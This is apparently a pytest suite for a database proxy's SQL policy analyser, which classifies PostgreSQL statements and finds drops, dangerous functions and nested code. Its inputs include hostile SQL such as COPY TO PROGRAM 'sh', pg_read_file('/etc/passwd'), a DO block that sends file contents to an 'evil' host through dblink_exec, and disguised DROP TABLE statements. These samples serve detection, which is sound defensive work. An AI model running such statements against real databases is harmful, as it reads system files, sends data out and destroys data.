"""SQL analysis: statement kinds from the PostgreSQL grammar, not from the text's surface."""

from __future__ import annotations

import pytest

from proxy.policy.sql import KINDS, MAX_DEPTH, SqlParseError, analyze


def kinds(sql: str) -> list[str]:
    """Every statement kind, nested ones included, in order."""
    return [inner.kind for top in analyze(sql) for inner in top.walk()]


def quote(text: str) -> str:
    """A SQL string literal."""
    return "'" + text.replace("'", "''") + "'"


@pytest.mark.parametrize("sql, kind", [
    ("DROP TABLE t", "drop_table"),
    ("DROP SCHEMA s CASCADE", "drop_schema"),
    ("DROP DATABASE d", "drop_database"),
    ("DROP VIEW v", "drop_view"),
    ("TRUNCATE a, b", "truncate"),
    ("DELETE FROM t WHERE id = 1", "delete"),
    ("UPDATE t SET a = 1", "update"),
    ("INSERT INTO t VALUES (1)", "insert"),
    ("SELECT 1", "select"),
    ("ALTER ROLE bob SUPERUSER", "alter_role"),
    ("ALTER USER bob RENAME TO rob", "alter_role"),
    ("DROP ROLE bob", "drop_role"),
    ("CREATE USER bob", "create_role"),
    ("GRANT SELECT ON t TO bob", "grant"),
    ("GRANT admin TO bob", "grant"),
    ("REVOKE ALL ON t FROM bob", "revoke"),
    ("COPY t TO PROGRAM 'sh'", "copy_program"),
    ("COPY t FROM '/etc/passwd'", "copy_file"),
    ("COPY t TO STDOUT", "copy"),
    ("ALTER SYSTEM SET work_mem = '1GB'", "alter_system"),
    ("DO $$BEGIN END$$", "do_block"),
    ("PREPARE p AS SELECT 1", "prepare"),
    ("EXECUTE p", "execute_prepared"),
    ("SET search_path = x", "set"),
    ("BEGIN", "begin"),
    ("START TRANSACTION", "begin"),
    ("COMMIT", "commit"),
    ("ROLLBACK", "rollback"),
    ("CHECKPOINT", "other"),
])
def test_statement_kinds(sql, kind):
    (statement,) = analyze(sql)
    assert statement.kind == kind
    assert kind in KINDS


@pytest.mark.parametrize("sql", [
    "DROP/**/TABLE t",
    "-- harmless\nDROP TABLE t",
    "/* a */ dRoP /* b */ TaBlE /* c */ t",
    'DROP TABLE "t"',
    "drop table if exists t cascade",
    "SELECT 1; DROP TABLE t",
    "SELECT 1;\n\n  drop\ttable\nt;",
])
def test_disguised_drops_are_still_drops(sql):
    assert "drop_table" in kinds(sql)


def test_dollar_quoted_text_that_merely_contains_drop_table_is_a_select():
    assert kinds("SELECT $$DROP TABLE t$$, $tag$; DROP TABLE u; $tag$") == ["select"]
    assert kinds("SELECT 'DROP TABLE t' AS x -- DROP TABLE u") == ["select"]


def test_multi_statement_text_is_split_with_each_statement_text():
    statements = analyze("SELECT 'é'; /* c */ DROP TABLE ü;  UPDATE t SET a = 1")
    assert [s.kind for s in statements] == ["select", "drop_table", "update"]
    assert [s.text for s in statements] == ["SELECT 'é'", "DROP TABLE ü", "UPDATE t SET a = 1"]
    assert statements[1].tables == ("ü",)


def test_normalized_text_replaces_constants():
    (statement,) = analyze("SELECT * FROM t WHERE ssn = '123-45-6789' AND n = 5")
    assert statement.normalized == "SELECT * FROM t WHERE ssn = $1 AND n = $2"


def test_table_names_are_schema_qualified_as_postgresql_resolves_identifiers():
    (statement,) = analyze('SELECT * FROM Public.Users, "Mixed"."Case", db.s.t, plain JOIN "a.b" ON true')
    assert statement.tables == ("public.users", "Mixed.Case", "s.t", "plain", '"a.b"')
    (drop,) = analyze('DROP TABLE IF EXISTS "Foo".Bar, baz')
    assert drop.tables == ("Foo.bar", "baz")


@pytest.mark.parametrize("sql, has_where", [
    ("DELETE FROM t", False),
    ("DELETE FROM t WHERE true", False),
    ("DELETE FROM t WHERE 1 = 1", False),
    ("UPDATE t SET a = 1 WHERE $1", False),
    ("DELETE FROM t WHERE id = $1", True),
    ("UPDATE t SET a = 1 WHERE id IN (SELECT id FROM u)", True),
    ("DELETE FROM t WHERE CURRENT OF c", True),
])
def test_where_that_filters_nothing_counts_as_no_where(sql, has_where):
    (statement,) = analyze(sql)
    assert statement.has_where is has_where


def test_functions_are_found_anywhere_in_the_tree():
    sql = ("WITH x AS (SELECT pg_catalog.pg_read_file('/etc/passwd') AS f) "
           "SELECT * FROM (SELECT dblink('h', 'q')) s, x WHERE upper(x.f) = ANY (SELECT lower('a'))")
    (statement,) = analyze(sql)
    assert set(statement.functions) == {"pg_catalog.pg_read_file", "dblink", "upper", "lower"}
    (subquery,) = analyze("SELECT * FROM (SELECT pg_read_file('/etc/passwd')) s")
    assert subquery.functions == ("pg_read_file",)


def test_data_modifying_cte_is_a_nested_delete_without_where():
    (statement,) = analyze("WITH d AS (DELETE FROM t RETURNING *) SELECT * FROM d")
    assert statement.kind == "select"
    (nested,) = statement.nested
    assert (nested.kind, nested.has_where, nested.tables) == ("delete", False, ("t",))


def test_prepare_exposes_its_query_and_explain_its_statement():
    assert kinds("PREPARE p (int) AS DELETE FROM t") == ["prepare", "delete"]
    assert kinds("EXPLAIN ANALYZE UPDATE t SET a = 1") == ["explain", "update"]
    assert kinds("COPY (DELETE FROM t RETURNING *) TO STDOUT") == ["copy", "delete"]


def test_extended_protocol_parameters_parse():
    (statement,) = analyze("UPDATE accounts SET balance = $2 WHERE id = $1")
    assert (statement.kind, statement.has_where, statement.tables) == ("update", True, ("accounts",))


def test_do_block_statements_and_expressions_are_analyzed():
    sql = """DO $$
    DECLARE x text;
    BEGIN
      x := pg_read_file('/etc/passwd');
      PERFORM dblink_exec('host=evil', x);
      DROP TABLE t;
      IF now() > '2000-01-01' THEN DELETE FROM audit; END IF;
    END $$"""
    (block,) = analyze(sql)
    assert block.kind == "do_block"
    assert [n.kind for n in block.nested] == ["select", "select", "drop_table", "select", "delete"]
    assert {"pg_read_file", "dblink_exec", "now"} <= set(block.functions)
    assert set(block.tables) == {"t", "audit"}


def test_nesting_within_the_depth_limit_is_seen_through():
    sql = "DROP TABLE t"
    for _ in range(2):
        sql = "DO " + quote(f"BEGIN EXECUTE {quote(sql)}; END")
    assert "drop_table" in kinds(sql)


def test_execute_of_a_constant_string_is_analyzed_and_of_a_computed_one_is_dynamic():
    assert "drop_table" in kinds("DO $$BEGIN EXECUTE 'DROP ' || 'TABLE t'; END$$")
    assert "drop_table" in kinds("DO $$BEGIN EXECUTE 'DROP TABLE t'::text; END$$")
    dynamic = kinds("DO $$DECLARE n text := 't'; BEGIN EXECUTE format('DROP TABLE %I', n); END$$")
    assert "execute_dynamic" in dynamic and "drop_table" not in dynamic
    assert "execute_dynamic" in kinds(
        "DO $$DECLARE r record; BEGIN FOR r IN EXECUTE 'SEL' || chr(69) || 'CT 1' LOOP END LOOP; END$$")


def test_function_bodies_are_analyzed_by_language():
    plpgsql = "CREATE FUNCTION f() RETURNS void LANGUAGE plpgsql AS $$BEGIN TRUNCATE t; END$$"
    assert kinds(plpgsql) == ["create_function", "truncate"]
    sql_body = "CREATE FUNCTION g() RETURNS text LANGUAGE sql AS 'SELECT pg_read_file(''/etc/passwd'')'"
    assert analyze(sql_body)[0].functions == ("pg_read_file",)
    atomic = "CREATE FUNCTION h() RETURNS void LANGUAGE sql BEGIN ATOMIC DELETE FROM t; END"
    assert kinds(atomic) == ["create_function", "delete"]
    assert kinds("DO LANGUAGE plpython3u 'import os; os.system(\"sh\")'") == ["do_block", "execute_dynamic"]
    assert kinds("CREATE FUNCTION c() RETURNS int LANGUAGE c AS 'lib', 'sym'") == ["create_function"]


def test_nesting_beyond_the_depth_limit_is_opaque():
    sql = "DROP TABLE t"
    for _ in range(MAX_DEPTH + 2):
        sql = "DO " + quote(f"BEGIN EXECUTE {quote(sql)}; END")
    found = kinds(sql)
    assert "drop_table" not in found and "execute_dynamic" in found


@pytest.mark.parametrize("sql", ["SELEC 1", "DROP TABLE", "SELECT 'unterminated", "DO $$BEGIN RETURN QUERY SELECT 1; END$$"])
def test_unparseable_sql_raises_a_typed_error(sql):
    with pytest.raises(SqlParseError) as error:
        analyze(sql)
    assert "\n" not in str(error.value)


def test_parse_error_carries_the_position():
    with pytest.raises(SqlParseError) as error:
        analyze("SELECT 1; SELEC 2")
    assert error.value.position == 10


@pytest.mark.parametrize("sql", ["", "   ", "-- nothing\n", ";;"])
def test_empty_text_has_no_statements(sql):
    assert analyze(sql) == ()


def test_identical_text_is_analyzed_once():
    sql = "SELECT id FROM cache_probe WHERE id = $1"
    assert analyze(sql) is analyze(sql)


# --- the numeric-shape cache: statements that differ only in their numbers share one analysis ---------------

from hypothesis import given, settings, strategies as st  # noqa: E402

from proxy.policy import sql as sql_module  # noqa: E402

SHAPES = [
    "UPDATE pgbench_accounts SET abalance = abalance + {} WHERE aid = {};",
    "SELECT abalance FROM pgbench_accounts WHERE aid = {}",
    "INSERT INTO pgbench_history (tid, bid, aid, delta, mtime) VALUES ({}, {}, {}, {}, CURRENT_TIMESTAMP)",
    "DELETE FROM t1 WHERE id = {} AND note = 'row 7'",
    "WITH gone AS (DELETE FROM t WHERE id > {} RETURNING *) INSERT INTO archive SELECT * FROM gone LIMIT {}",
    "select * from \"T 2\" where x = {} or y in (select pg_terminate_backend({}))",
    "SELECT lo_export({}, '/tmp/x'), 1.5e{} FROM t",
]


@settings(max_examples=200, deadline=None)
@given(st.sampled_from(SHAPES), st.lists(st.integers(0, 10**12), min_size=4, max_size=4))
def test_a_statement_analyzed_through_its_numeric_shape_is_analyzed_as_itself(shape, numbers):
    text = shape.format(*numbers)
    assert analyze(text) == sql_module._analyze(text, 0)


@pytest.mark.parametrize("first, second", [
    ("SELECT * FROM t1 WHERE x = 5", "SELECT * FROM t2 WHERE x = 6"),  # digits of identifiers
    ('SELECT * FROM "1" WHERE x = 5', 'SELECT * FROM "2" WHERE x = 6'),  # quoted identifiers
    ("SELECT * FROM t WHERE x = '1' AND y = 5", "SELECT * FROM t WHERE x = '2' AND y = 6"),  # strings
    ("SELECT * FROM a.b1 WHERE x = 5", "SELECT * FROM a.b2 WHERE x = 6"),  # qualified names
])
def test_what_is_not_a_number_keeps_its_own_shape(first, second):
    one, other = sql_module._numeric_shape(first), sql_module._numeric_shape(second)
    assert one is not None and other is not None and one != other


@pytest.mark.parametrize("text", [
    "SELECT 1; DROP TABLE t",  # more than one statement
    "DO $$ BEGIN EXECUTE 'DROP TABLE t' || 1; END $$",  # a body, dollar-quoted
    "SELECT E'\\x41' || 1",  # backslash escapes
    "SELECT 1 -- DROP TABLE t",  # comments
    "DROP TABLE t2",  # not plain DML
    "SELECT 'unterminated 1",
    "SELECT $1 + 1",  # parameters
    "SELECT * FROM t",  # no number: the exact-text cache is enough
])
def test_only_one_plain_dml_statement_has_a_numeric_shape(text):
    assert sql_module._numeric_shape(text) is None
